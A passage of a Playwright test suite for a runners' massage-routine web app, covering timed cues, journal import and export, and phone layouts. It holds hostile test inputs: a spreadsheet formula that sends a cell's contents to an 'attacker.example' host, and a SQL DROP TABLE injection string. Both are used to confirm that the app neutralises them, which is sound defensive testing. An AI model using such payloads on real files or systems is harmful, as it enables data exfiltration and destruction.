// Unknot as a person uses it: journeys in Chromium with a phone viewport (390×844, touch), against the real
// web build (scripts/build-web.sh). Time is driven with Playwright's fake clock, so a 5-minute routine runs
// in seconds and every cue can be checked against its planned second. Screenshots of the main screens are
// written to screenshots/ (look at them).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { chromium } from "playwright-core";
import { serve, launch, launchPersistent, CHROMIUM_ARGS, PHONE, RECORDER, ROOT, FEEL, FLASH_WORD, felt, heard, flashed, routineSteps, expectedCues, sideWord, ownUnderstand } from "./lib.mjs";

const SHOTS = path.join(ROOT, "screenshots");
fs.mkdirSync(SHOTS, { recursive: true });
const T0 = new Date("2026-11-20T18:00:00Z").getTime();

let server, browser;
before(async () => {
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

async function newPage({ clock = true } = {}) {
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  if (clock) await page.clock.install({ time: T0 });
  await page.goto(server.url + "/");
  await acceptSafety(page);
  // From here on the fake clock moves only when the test says so (runFor), so every cue can be checked to
  // the millisecond; the margin leaves the page's start-up timers behind.
  if (clock) await page.clock.pauseAt(T0 + 60_000);
  return { context, page, errors };
}

/** The app's own "I understand" (not the page's copy drawn before the app starts, which journey (s) taps):
 *  a tap aimed at the page's copy in the instant the app replaces it would wait for a hidden button. */

async function acceptSafety(page) {
  const gate = ownUnderstand(page);
  await gate.waitFor();
  await page.screenshot({ path: path.join(SHOTS, "first-start-safety.png") });
  await gate.tap();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
}

/** A tab in the bottom bar. */
const tab = (page, name) => page.getByRole("navigation", { name: "Main" }).getByRole("link", { name });

/** A session's address opened directly, as a reload or a phone restoring the app does: it waits for a Start tap of
 * its own (a session never starts by itself, nor without the tap that unlocks sound), which this gives. */
async function openSession(page, routineId) {
  await page.goto(server.url + "/session/" + routineId);
  const start = page.getByRole("button", { name: /^Start / });
  await start.waitFor();
  assert.equal(await page.getByRole("timer").count(), 0, "the session started without a tap");
  await start.tap();
  await page.getByRole("timer").waitFor();
}
// Finite animations (a cue's flash) are played to their end, so a screenshot shows the screen itself.
const shot = (page, name, animations = "disabled") => page.screenshot({ path: path.join(SHOTS, `${name}.png`), animations });
const cues = (page) => page.evaluate(() => window.__cues);

test("(a) Library → a technique's page", async () => {
  const { page, context, errors } = await newPage({ clock: false });
  await shot(page, "home");
  await tab(page, "Library").tap();
  await page.getByRole("heading", { name: "Library" }).waitFor();
  await shot(page, "library");
  await page.getByRole("link", { name: /Petrissage/ }).first().tap();
  await page.getByRole("heading", { name: "Petrissage", level: 1 }).waitFor();
  for (const h of ["What it is", "How it feels", "Why runners use it", "Where on a runner", "Cautions"]) {
    await page.getByRole("heading", { name: h }).waitFor();
  }
  await shot(page, "technique-petrissage");
  assert.deepEqual(errors, []);
  await context.close();
});

test("(b) tennis-ball routine runs by itself with the right cue at the right second, felt and heard; pause freezes it", async () => {
  const { page, context, errors } = await newPage();
  // Turn on the pace cue (one soft mark per stroke, felt and heard).
  await tab(page, "Settings").tap();
  await page.getByRole("group", { name: "Pace cue" }).getByRole("button", { name: "Both" }).tap();
  await tab(page, "Routines").tap();
  await page.getByRole("button", { name: "Tennis ball" }).tap();
  await shot(page, "routines-tennis-ball");
  const names = await page.locator(".routine-name").allTextContents();
  assert.ok(names.length >= 3 && names.includes("Calves with a tennis ball"), names.join(", "));
  await page.getByRole("link", { name: /Calves with a tennis ball/ }).tap();
  await page.getByRole("heading", { name: "Calves with a tennis ball" }).waitFor();
  await shot(page, "routine-detail");
  await page.getByRole("button", { name: "Start Calves with a tennis ball" }).tap();
  await page.getByText("Get ready").waitFor();

  const steps = routineSteps("calves-ball");
  const plan = expectedCues(steps, { pace: true });
  const timer = page.getByRole("timer");
  const screen = async () => ({
    label: await page.locator(".segment-label").textContent(),
    remaining: Number((await timer.getAttribute("aria-label")).split(" ")[0]),
    next: (await page.locator(".next-up").count()) ? await page.locator(".next-up").textContent() : "",
  });
  // Where the digits are laid out (offsetTop: the pulse's transform aside), at every check: they keep their
  // place through get ready, work, switch and rest, however long the title and the instructions.
  const countdownTops = new Set();
  const countdownTop = () => timer.evaluate((el) => el.offsetTop);

  // t = 0: get-ready countdown, first step next, the screen is kept awake.
  let s = await screen();
  assert.equal(s.label, "Get ready");
  assert.equal(s.remaining, 10);
  const word = sideWord(steps[0].area);
  assert.match(s.next, new RegExp(`${steps[0].title} \\(left ${word}\\)`));
  await shot(page, "player-get-ready");

  // Drive the clock through the routine, checking the screen at several points.
  const checks = [
    { at: 4_500, label: "Get ready", remaining: 6 },
    { at: 40_500, label: steps[0].title, remaining: 30, next: `Right ${sideWord(steps[0].area)}` },
    { at: 72_000, label: "Switch sides", remaining: 3 },
    { at: 136_000, label: "Rest", remaining: 4 },
    { at: 150_000, label: steps[1].title, remaining: 35 },
  ];
  let now = 0;
  for (const c of checks) {
    await page.clock.runFor(c.at - now);
    now = c.at;
    s = await screen();
    assert.equal(s.label, c.label, `label at ${c.at} ms`);
    assert.equal(s.remaining, c.remaining, `remaining at ${c.at} ms`);
    if (c.next) assert.match(s.next, new RegExp(c.next));
    countdownTops.add(await countdownTop());
    if (c.at === 40_500) await shot(page, "player-work");
    if (c.at === 72_000) await shot(page, "player-switch");
  }

  assert.equal(countdownTops.size, 1, `the countdown moved between segments: tops ${[...countdownTops].join(", ")} px`);

  // Pause for five minutes of clock time: nothing advances, no cue plays.
  await page.getByRole("button", { name: "Pause" }).tap();
  const before = (await cues(page)).length;
  const frozen = await screen();
  await page.clock.runFor(300_000);
  assert.deepEqual(await screen(), frozen);
  assert.equal((await cues(page)).length, before, "a cue played while paused");
  await page.getByText("Paused").waitFor();
  await shot(page, "player-paused");
  await page.getByRole("button", { name: "Resume" }).tap();
  await page.clock.runFor(1000);
  now += 1000;
  s = await screen();
  assert.equal(s.remaining, frozen.remaining - 1, "resume did not continue from the same second");

  // Run to the end.
  await page.clock.runFor(plan.total - now + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  await shot(page, "player-done");

  // The exact sequence of cues, on every channel, each on its planned millisecond: felt as the W3C
  // Vibration API plays the recorded calls, heard at the scheduled audio time plus the output latency.
  const recorded = await cues(page);
  const start = recorded.find((e) => e.type === "wake").t; // the Start tap's task: the session's instant 0
  const pauseGap = 300_000;
  const due = (c) => start + c.at + (c.at > 150_000 ? pauseGap : 0);
  const feel = felt(recorded);
  assert.deepEqual(feel.map((e) => e.shape), plan.cues.map((c) => FEEL[c.cue]), "what is felt, cue by cue");
  for (const [i, c] of plan.cues.entries()) {
    assert.ok(Math.abs(feel[i].t - due(c)) <= 1, `vibration ${i} (${c.cue}) felt at ${feel[i].t - start}, planned ${c.at}`);
  }
  const sound = heard(recorded);
  assert.deepEqual(sound.map((e) => e.cue), plan.cues.map((c) => c.cue), "what is heard, cue by cue");
  const latency = await page.evaluate(() => new AudioContext().outputLatency * 1000);
  for (const [i, c] of plan.cues.entries()) {
    const late = sound[i].t - latency - due(c);
    assert.ok(Math.abs(late) <= 1, `sound ${i} (${c.cue}) heard at ${sound[i].t - start} (${latency} ms output latency), planned ${c.at}`);
  }
  // Seen: start, switch and done flash the whole screen (the switch with its word), each on its millisecond,
  // and nothing flashes while paused.
  const flashes = flashed(recorded);
  const flashPlan = plan.cues.filter((c) => c.cue in FLASH_WORD);
  assert.deepEqual(flashes.map((f) => [f.cue, f.word]), flashPlan.map((c) => [c.cue, FLASH_WORD[c.cue]]), "what is seen, flash by flash");
  for (const [i, c] of flashPlan.entries()) {
    assert.ok(Math.abs(flashes[i].t - due(c)) <= 1, `flash ${i} (${c.cue}) drawn at ${flashes[i].t - start}, planned ${c.at}`);
  }
  assert.ok(plan.cues.filter((c) => c.cue === "pace").length >= 20, "the pace cue marks the strokes");
  // Spoken guidance: the step and side at each start, the side to switch to, the end.
  const said = recorded.filter((e) => e.type === "say").map((e) => e.text);
  const expectedSaid = [];
  for (const g of plan.segs) {
    const prev = plan.segs[plan.segs.indexOf(g) - 1];
    if (g.kind === "switch") expectedSaid.push(`Switch to your right ${sideWord(steps[prev.step].area)}.`);
    if (g.kind !== "work") continue;
    const sideOf = steps[g.step].sided ? (prev?.kind === "switch" ? "right" : "left") : null;
    expectedSaid.push(sideOf ? `${steps[g.step].title}, ${sideOf} ${sideWord(steps[g.step].area)}.` : `${steps[g.step].title}.`);
  }
  expectedSaid.push("Session complete.");
  assert.deepEqual(said, expectedSaid, "spoken guidance");
  // Wake lock taken once at start, released at the end.
  const wake = recorded.filter((e) => e.type.startsWith("wake")).map((e) => e.type);
  assert.deepEqual(wake, ["wake", "wake-release"]);
  assert.deepEqual(errors, []);
  await context.close();
});

async function runRoutineToDone(page, id, name) {
  await page.goto(`${page.url().split("/").slice(0, 3).join("/")}/routines/${id}`);
  await page.getByRole("button", { name: `Start ${name}` }).tap();
  await page.getByText("Get ready").waitFor();
  const plan = expectedCues(routineSteps(id));
  await page.clock.runFor(plan.total + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  // The session is over: let time flow normally again.
  await page.clock.resume();
}

test("(c) after Done, log a note; it survives a reload and a browser restart", async () => {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-profile-"));
  let context = await launchPersistent(profile);
  await context.addInitScript(RECORDER);
  let page = context.pages()[0] ?? (await context.newPage());
  await page.clock.install({ time: T0 });
  await page.goto(server.url + "/");
  await acceptSafety(page);
  await page.clock.pauseAt(T0 + 60_000);
  await runRoutineToDone(page, "hamstrings-roller", "Hamstrings on the foam roller");
  await page.getByRole("link", { name: "Log how you feel" }).tap();
  await page.getByRole("heading", { name: "How do you feel?" }).waitFor();
  await page.getByLabel("Hamstrings soreness, 0 to 10").fill("6");
  await page.getByRole("radio", { name: /4 of 5/ }).tap();
  await page.getByLabel("RPE 1–10").fill("7");
  const text = "Tempo run 🏃 — שלום <b>tight</b> '; DROP TABLE notes; --";
  await page.getByLabel("Note").fill(text);
  await shot(page, "log-form");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText("Feel 4/5 · Good").waitFor();
  await page.getByText(text).waitFor();
  assert.equal(await page.getByText(/^Edited /).count(), 0, "a new note is not shown as edited");
  await shot(page, "note-detail");
  // Writes reach IndexedDB asynchronously after commit: give them real time.
  await page.clock.runFor(2000);
  await page.waitForTimeout(1500);

  await page.reload();
  await tab(page, "Journal").tap();
  await page.getByText(text).waitFor();
  await page.getByText("Sorest: Hamstrings 6/10").waitFor();
  await shot(page, "journal");
  await context.close();

  context = await launchPersistent(profile);
  page = context.pages()[0] ?? (await context.newPage());
  await page.goto(server.url + "/journal");
  await page.getByText(text).waitFor();
  // The safety notes were acknowledged before the restart: not shown again.
  assert.equal(await page.getByRole("button", { name: "I understand" }).count(), 0);
  await context.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

test("(d) export, then import the file: nothing duplicated; wipe and import brings everything back", async () => {
  const { page, context } = await newPage({ clock: false });
  for (const [feel, calves] of [[2, "7"], [4, "3"]]) {
    await page.goto(server.url + "/journal/log");
    await page.getByLabel("Add an area").selectOption("calves");
    await page.getByLabel("Calves soreness, 0 to 10").fill(calves);
    await page.getByRole("radio", { name: new RegExp(`${feel} of 5`) }).tap();
    await page.getByRole("button", { name: "Save note" }).tap();
    await page.getByText(`Feel ${feel}/5`).waitFor();
  }
  await tab(page, "Settings").tap();
  await page.getByText("2 notes").waitFor();
  await shot(page, "settings");
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).tap()]);
  const file = path.join(os.tmpdir(), `unknot-export-${process.pid}.json`);
  await download.saveAs(file);
  const exported = JSON.parse(fs.readFileSync(file, "utf8"));
  assert.equal(exported.format, "unknot-journal");
  assert.equal(exported.notes.length, 2);

  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText("0 added, 0 updated, 2 skipped").waitFor();
  await page.getByText("2 notes").waitFor();

  await page.getByRole("button", { name: "Delete all journal data" }).tap();
  await page.getByRole("button", { name: "Delete everything" }).tap();
  await page.getByText("0 notes").waitFor();
  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText("2 added, 0 updated, 0 skipped").waitFor();
  await tab(page, "Journal").tap();
  assert.equal(await page.locator(".note-card").count(), 2);

  // A broken file changes nothing and says why.
  fs.writeFileSync(file, JSON.stringify({ ...exported, notes: [{ ...exported.notes[0], id: "new", feel: 9 }] }));
  await tab(page, "Settings").tap();
  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText(/Import failed, nothing was changed: notes\[0\]: feel must be 1–5 \(got 9\)/).waitFor();
  await page.getByText("2 notes").waitFor();
  fs.rmSync(file);
  await context.close();
});

test("(e) bad input in the log form shows its message and saves nothing", async () => {
  const { page, context } = await newPage({ clock: false });
  await page.goto(server.url + "/journal/log");
  await page.getByLabel("Add an area").selectOption("quads");
  await page.getByLabel("Quads soreness, 0 to 10").fill("12");
  await page.getByLabel("RPE 1–10").fill("11");
  await page.getByLabel("Note").fill("x".repeat(10_001));
  await page.getByRole("button", { name: "Save note" }).tap();
  const alert = page.getByRole("alert");
  await alert.getByText("Soreness for quads must be 0–10 (got 12).").waitFor();
  await alert.getByText("Run effort (RPE) must be 1–10 (got 11).").waitFor();
  await alert.getByText(/10001 characters long; the limit is 10000/).waitFor();
  await page.getByText("10001 / 10000 characters").waitFor();
  await shot(page, "log-form-errors");
  await tab(page, "Journal").tap();
  await page.getByText("No notes yet").waitFor();
  await context.close();
});

test("(g) files from other tools and from an attacker: a BOM JSON under any name imports, a date in year 10000 is refused in plain words, CSV cells cannot run formulas", async () => {
  const { page, context, errors } = await newPage({ clock: false });
  await tab(page, "Settings").tap();
  await page.getByText("0 notes").waitFor();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-hostile-"));
  const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
  const note = { id: "from-a-spreadsheet", created_at: "2024-05-01T08:00:00+02:00", updated_at: "2024-05-01T08:00:00+02:00", feel: 4, text: formula, soreness: { calves: 3 } };
  // Saved by a Windows tool: byte-order mark, CRLF, and a name that says nothing about the format.
  const bom = path.join(dir, "backup.txt");
  const json = JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z", notes: [note] }, null, 2);
  fs.writeFileSync(bom, "\uFEFF" + json.replace(/\n/g, "\r\n"));
  await page.getByLabel("Import a journal file").setInputFiles(bom);
  await page.getByText("Imported backup.txt: 1 added, 0 updated, 0 skipped.").waitFor();
  await page.getByText("1 note, stored").waitFor();

  // The file from issue #12: it used to report "1 added" and then break listing, export and delete.
  const far = path.join(dir, "far.json");
  fs.writeFileSync(far, JSON.stringify({ format: "unknot-journal", version: 1, exported_at: "2024-06-01T12:00:00Z",
    notes: [{ id: "x", created_at: "+10000-01-01T00:00:00Z", updated_at: "+10000-01-01T00:00:00Z", feel: 3 }] }));
  await page.getByLabel("Import a journal file").setInputFiles(far);
  await page.getByText(/Import failed, nothing was changed: .*the year 10000 is outside the years 1970 to 2200/).waitFor();
  await page.getByText("1 note, stored").waitFor();

  // The formula goes out neutralised for spreadsheets, and comes back exactly.
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).tap()]);
  const csvFile = path.join(dir, "export.csv");
  await download.saveAs(csvFile);
  const csv = fs.readFileSync(csvFile, "utf8");
  const cells = csv.split(/[,\r\n]/).map((c) => c.replace(/^"/, ""));
  assert.ok(cells.every((c) => !/^[=+\-@\t\r]/.test(c)), `a spreadsheet would run a cell of:\n${csv}`);
  await page.getByRole("button", { name: "Delete all journal data" }).tap();
  await page.getByRole("button", { name: "Delete everything" }).tap();
  await page.getByText("0 notes").waitFor();
  await page.getByLabel("Import a journal file").setInputFiles(csvFile);
  await page.getByText("1 added, 0 updated, 0 skipped").waitFor();
  await tab(page, "Journal").tap();
  await page.locator(".note-card").getByText(formula).waitFor();
  await shot(page, "journal-after-hostile-import");
  fs.rmSync(dir, { recursive: true, force: true });
  assert.deepEqual(errors, []);
  await context.close();
});

test("(h) opening a session's address on a first start shows the safety notes before anything else", async () => {
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  await page.goto(server.url + "/session/calves-roller");
  await page.getByRole("dialog", { name: "Before you start" }).waitFor();
  assert.equal(await page.getByRole("timer").count(), 0, "the session must not run behind the safety notes");
  await ownUnderstand(page).tap();
  // Then the player, waiting for its Start tap: none led here.
  await page.getByRole("button", { name: "Start Calves on the foam roller" }).tap();
  await page.getByRole("timer").waitFor();
  await context.close();
});

test("(f) every main screen fits a small phone's width (320 px) with no sideways scrolling", async () => {
  const context = await browser.newContext({ ...PHONE, viewport: { width: 320, height: 640 } });
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  await page.goto(server.url + "/");
  await ownUnderstand(page).tap();
  const paths = ["/", "/routines", "/routines/post-run-lower-body", "/library", "/library/techniques/sports-massage",
    "/library/methods/foam-roller", "/library/safety", "/journal", "/journal/log", "/settings", "/session/outer-thigh-roller",
    "/journal/runs/new", "/journal/areas/calves", "/journal/load"];
  for (const p of paths) {
    // A session's address: the running player, after its Start tap.
    if (p.startsWith("/session/")) await openSession(page, p.slice("/session/".length));
    else await page.goto(server.url + p);
    await page.locator("h1, .segment-label").first().waitFor();
    const [scroll, inner] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
    // innerWidth too: a phone widens its layout viewport (zooming out) to fit a page wider than the screen.
    assert.ok(scroll <= 320 && inner === 320, `${p} is ${scroll} px wide in a ${inner} px window`);
    // A legend is drawn across its fieldset's top border: on two lines, the border runs through its words.
    const wrapped = await page.evaluate(() => [...document.querySelectorAll("legend")].filter((l) => {
      const range = document.createRange();
      range.selectNodeContents(l);
      return new Set([...range.getClientRects()].map((r) => Math.round(r.top))).size > 1;
    }).map((l) => l.textContent));
    assert.deepEqual(wrapped, [], `${p}: legends on more than one line`);
  }
  // A drawing of the position beside every step of a routine, inside the screen.
  await page.goto(server.url + "/routines/post-run-lower-body");
  await page.locator("h1").first().waitFor();
  const drawings = await page.locator(".step-drawing").evaluateAll((ds) => ds.map((d) => { const b = d.getBoundingClientRect(); return b.width > 0 && b.left >= 0 && b.right <= innerWidth; }));
  assert.deepEqual(drawings, [true, true, true, true, true, true]);
  await page.locator(".step-drawing").first().scrollIntoViewIfNeeded();
  await shot(page, "routine-320");
  // Soreness and training load with an area and 12 weeks, at 200 % text too: still no sideways scrolling,
  // and no number spilling out of its column.
  await page.goto(server.url + "/journal/log");
  await page.getByLabel("Add an area").selectOption("hamstrings");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText(/Feel 3\/5/).waitFor();
  const cdp = await context.newCDPSession(page);
  await page.setViewportSize({ width: 320, height: 640 });
  for (const fontPx of [16, 32]) {
    await cdp.send("Page.setFontSizes", { fontSizes: { standard: fontPx, fixed: Math.round(fontPx * 0.8) } });
    await page.goto(server.url + "/journal/load");
    await page.getByRole("button", { name: "12 weeks" }).tap();
    await page.locator(".load-label", { hasText: "Hamstrings" }).first().waitFor();
    // The layout viewport's width, not innerWidth: a phone zooms out to show a page wider than the screen.
    const [scroll, inner, spilt] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth,
      [...document.querySelectorAll(".load-num, .load-week")].filter((e) => e.scrollWidth > e.clientWidth + 0.5).length]);
    assert.ok(scroll <= inner, `/journal/load at ${fontPx} px text is ${scroll} px wide in a ${inner} px window`);
    assert.equal(spilt, 0, `/journal/load at ${fontPx} px text: numbers wider than their column`);
    await shot(page, `load-overview-320-${fontPx}px`);
  }
  // A run's page at 320 px and 200 % text (still set from the loop above): nothing wider than the phone.
  await page.goto(server.url + "/journal/runs/new");
  await page.getByLabel("Import a run file").setInputFiles(path.join(ROOT, "tests", "fixtures", "thursday-long-run.gpx"));
  await page.getByRole("link", { name: "Set its type and effort" }).tap();
  await page.getByRole("heading", { name: "Run", level: 1 }).waitFor();
  const [runScroll, runInner] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
  assert.ok(runScroll <= runInner, `the run page at 200 % text is ${runScroll} px wide in a ${runInner} px window`);
  await shot(page, "run-page-320-200pct");
  await context.close();
});

// ---------------------------------------------------------------------------------------------------------
// The player on real phones: every size, large text, lock mode, flashes; accessibility on every screen.

/** A page at a viewport (portrait phones, landscape, a tablet), the safety notes accepted, the clock paused. */
async function pageAt(viewport, { colorScheme = "light", fontPx, clock = true, onSafetyNotes } = {}) {
  const context = await browser.newContext({ ...PHONE, viewport, colorScheme });
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  if (fontPx) {
    // The browser's default text size, as a phone's text-size setting sets it (Android: WebView text zoom).
    const cdp = await context.newCDPSession(page);
    await cdp.send("Page.setFontSizes", { fontSizes: { standard: fontPx, fixed: Math.round(fontPx * 0.8) } });
  }
  if (clock) await page.clock.install({ time: T0 });
  await page.goto(server.url + "/");
  if (onSafetyNotes) {
    await page.getByRole("button", { name: "I understand" }).waitFor();
    await onSafetyNotes(page);
  }
  await acceptSafety(page);
  if (clock) await page.clock.pauseAt(T0 + 60_000);
  return { context, page, errors };
}

/** Waits (polling from here, not with the page's timers, which a fake clock may hold) until `fn` is true in the page. */
async function until(page, fn, what) {
  for (let i = 0; i < 100; i++) {
    if (await page.evaluate(fn)) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  assert.fail(`timed out waiting for ${what}`);
}

/** The boxes of what must be on screen in the player, and whether each lies wholly inside the viewport and
 * inside every box around it that clips (overflow other than visible): a box can be on screen and still be
 * cut by the column it sits in. */
function playerBoxes(page) {
  return page.evaluate(() => {
    const vw = window.innerWidth, vh = window.innerHeight;
    const q = {
      heading: ".segment-label", side: ".segment-sub", countdown: "[role=timer]", end: "[aria-label='End session']",
      back: "button[aria-label=Back]", pause: "button[aria-label=Pause], button[aria-label=Resume]", skip: "button[aria-label=Skip]",
    };
    const out = { scrollable: document.scrollingElement.scrollHeight > vh + 1 || document.scrollingElement.scrollWidth > vw + 1 };
    for (const [name, sel] of Object.entries(q)) {
      const el = document.querySelector(sel);
      const b = el?.getBoundingClientRect();
      let clippedBy = null;
      for (let a = el?.parentElement; a && a !== document.body && !clippedBy; a = a.parentElement) {
        const st = getComputedStyle(a);
        if (st.overflowX === "visible" && st.overflowY === "visible") continue;
        const c = a.getBoundingClientRect();
        if (b.left < c.left - 0.5 || b.right > c.right + 0.5 || b.top < c.top - 0.5 || b.bottom > c.bottom + 0.5) clippedBy = a.className || a.tagName;
      }
      out[name] = b ? { top: Math.round(b.top), bottom: Math.round(b.bottom), left: Math.round(b.left), right: Math.round(b.right), clippedBy,
        inside: b.height > 0 && b.width > 0 && b.top >= -0.5 && b.left >= -0.5 && b.bottom <= vh + 0.5 && b.right <= vw + 0.5 && !clippedBy } : null;
    }
    return out;
  });
}

async function assertPlayerFits(page, where) {
  const boxes = await playerBoxes(page);
  assert.equal(boxes.scrollable, false, `${where}: the player scrolls`);
  for (const [name, b] of Object.entries(boxes)) {
    if (name === "scrollable") continue;
    assert.ok(b?.inside, `${where}: ${name} is not wholly on screen: ${JSON.stringify(b)}`);
  }
}

const SIZES = [
  { width: 320, height: 568 }, { width: 360, height: 640 }, { width: 375, height: 667 }, { width: 390, height: 844 },
  { width: 412, height: 915 }, { width: 844, height: 390 }, { width: 768, height: 1024 },
];

test("(i) the player fits every phone, a tablet and landscape, and large text, with every control on screen", async () => {
  for (const [i, size] of [...SIZES, { width: 390, height: 844, fontPx: 32 }].entries()) {
    const { page, context, errors } = await pageAt({ width: size.width, height: size.height }, { fontPx: size.fontPx });
    const where = `${size.width}×${size.height}${size.fontPx ? " at 200% text" : ""}`;
    if (size.fontPx) {
      const root = await page.evaluate(() => getComputedStyle(document.documentElement).fontSize);
      assert.equal(root, "36px", "the root text follows the browser's text size (112.5% of 32 px)");
      // Every tab stays reachable and readable.
      const tabs = await page.getByRole("navigation", { name: "Main" }).getByRole("link").evaluateAll((links) =>
        links.map((a) => { const b = a.getBoundingClientRect(); const l = a.querySelector(".tab-label");
          return { name: a.textContent, inside: b.left >= 0 && b.right <= innerWidth + 0.5 && b.bottom <= innerHeight + 0.5, whole: l.scrollWidth <= l.clientWidth }; }));
      assert.equal(tabs.length, 5);
      for (const t of tabs) assert.ok(t.inside && t.whole, `${where}: tab ${t.name} ${JSON.stringify(t)}`);
      // A run to show on its own page (imported, as most are), then no main screen grows wider than the phone
      // (a phone would zoom the whole page out to fit it).
      await page.goto(server.url + "/journal/runs/new");
      await page.getByLabel("Import a run file").setInputFiles(path.join(ROOT, "tests", "fixtures", "thursday-long-run.gpx"));
      const runPage = await page.getByRole("link", { name: "Set its type and effort" }).getAttribute("href");
      for (const p of [runPage, "/", "/routines", "/routines/post-run-lower-body", "/library", "/library/techniques/sports-massage", "/journal", "/journal/log",
        "/settings", "/builder/new", "/journal/runs/new", "/journal/areas/calves", "/journal/load"]) {
        await page.goto(server.url + p);
        await page.locator("h1").first().waitFor();
        const [scroll, inner] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
        assert.ok(scroll <= 390 && inner === 390, `${where}: ${p} is ${scroll} px wide (layout viewport ${inner})`);
      }
      await page.goto(server.url + "/");
      // The soreness steppers' − and + are not clipped.
      await tab(page, "Journal").tap();
      await page.getByRole("link", { name: "Log how you feel" }).first().tap();
      await page.getByLabel("Add an area").selectOption("calves");
      const clipped = await page.locator("button.round").evaluateAll((bs) => bs.filter((b) => b.scrollWidth > b.clientWidth || b.scrollHeight > b.clientHeight).length);
      assert.equal(clipped, 0, `${where}: a stepper glyph is clipped`);
      await shot(page, "log-form-200pct");
      await tab(page, "Home").tap();
      await shot(page, "home-200pct");
    }
    await openSession(page, "post-run-lower-body");
    await assertPlayerFits(page, `${where} get ready`);
    // The drawing of the first position, large; gone in short landscape (it gives way before anything else).
    const drawing = await page.locator(".player-drawing").evaluate((d) => ({ shown: getComputedStyle(d).display !== "none", h: Math.round(d.getBoundingClientRect().height) }));
    const short = size.width > size.height && size.height <= 560;
    assert.equal(drawing.shown, !short, `${where}: get ready drawing ${JSON.stringify(drawing)}`);
    // 100 px: at 390×844 the longest get-ready instructions leave it 102 px below the countdown, which keeps
    // its place through every segment (fixed slots above it).
    if (!short && !size.fontPx && size.height >= 800) assert.ok(drawing.h >= 100, `${where}: the drawing is only ${drawing.h} px tall`);
    if (!size.fontPx) await shot(page, size.width === 390 ? "player-get-ready" : `player-get-ready-${size.width}x${size.height}`);
    else await shot(page, "player-get-ready-200pct");
    await page.getByRole("button", { name: "Skip" }).tap();
    await page.getByRole("button", { name: /Hold here/ }).waitFor();
    await assertPlayerFits(page, `${where} work`);
    const name = size.fontPx ? "player-390x844-200pct" : `player-${size.width}x${size.height}`;
    await shot(page, name);
    await page.getByRole("button", { name: "Skip" }).tap();
    await page.getByText("Switch sides").waitFor();
    await assertPlayerFits(page, `${where} switch`);
    await page.getByRole("button", { name: "Pause" }).tap();
    await page.getByText("Paused").waitFor();
    await assertPlayerFits(page, `${where} paused`);
    assert.deepEqual(errors, [], where);
    await context.close();
    assert.ok(i >= 0);
  }
});

/** Relative luminance and contrast ratio, as WCAG 2.x defines them. */
function contrast(fg, bg) {
  const lum = (rgb) => {
    const [r, g, b] = rgb.match(/\d+(\.\d+)?/g).slice(0, 3).map(Number).map((v) => v / 255)
      .map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const [a, b] = [lum(fg), lum(bg)].sort((x, y) => y - x);
  return (a + 0.05) / (b + 0.05);
}

test("(j) lock mode keeps the countdown bright; a flash never covers the digits; Hold here adds time to this side", async () => {
  const { page, context, errors } = await pageAt({ width: 375, height: 667 });
  await openSession(page, "calves-roller");
  await page.clock.runFor(12_000); // 2 s into the first side
  await page.getByRole("button", { name: "Lock the screen against touches" }).tap();
  await page.getByRole("button", { name: "Hold to unlock" }).waitFor();
  const lock = await page.evaluate(() => {
    const timer = document.querySelector("[role=timer]");
    let opacity = 1;
    for (let el = timer; el; el = el.parentElement) opacity *= Number(getComputedStyle(el).opacity);
    const b = timer.getBoundingClientRect();
    const top = document.elementFromPoint(b.left + b.width / 2, b.top + b.height / 2);
    const controls = Number(getComputedStyle(document.querySelector(".player-controls")).opacity);
    return { opacity, color: getComputedStyle(timer).color, bg: getComputedStyle(document.querySelector(".player")).backgroundColor,
      overlayBg: getComputedStyle(document.querySelector(".lock-overlay")).backgroundColor, touchTaken: top.closest(".lock-overlay") !== null, controls };
  });
  assert.equal(lock.opacity, 1, "the countdown is not dimmed");
  assert.equal(lock.overlayBg, "rgba(0, 0, 0, 0)", "the lock layer is clear");
  assert.ok(contrast(lock.color, lock.bg) >= 4.5, `countdown contrast ${contrast(lock.color, lock.bg)}`);
  assert.ok(lock.touchTaken, "a touch on the countdown reaches the lock layer, not the player");
  assert.ok(lock.controls < 0.5, "the controls dim");
  await shot(page, "player-locked");
  await page.getByRole("button", { name: "Hold to unlock" }).press("Enter");

  // Hold here: 20 more seconds on this side, the next side keeps its time.
  const remaining = async () => Number((await page.getByRole("timer").getAttribute("aria-label")).split(" ")[0]);
  const before = await remaining();
  await page.getByRole("button", { name: /Hold here/ }).tap();
  assert.equal(await remaining(), before + 20);

  // Run to the switch: its flash inverts the screen under it and its word sits clear of the digits.
  const steps = routineSteps("calves-roller");
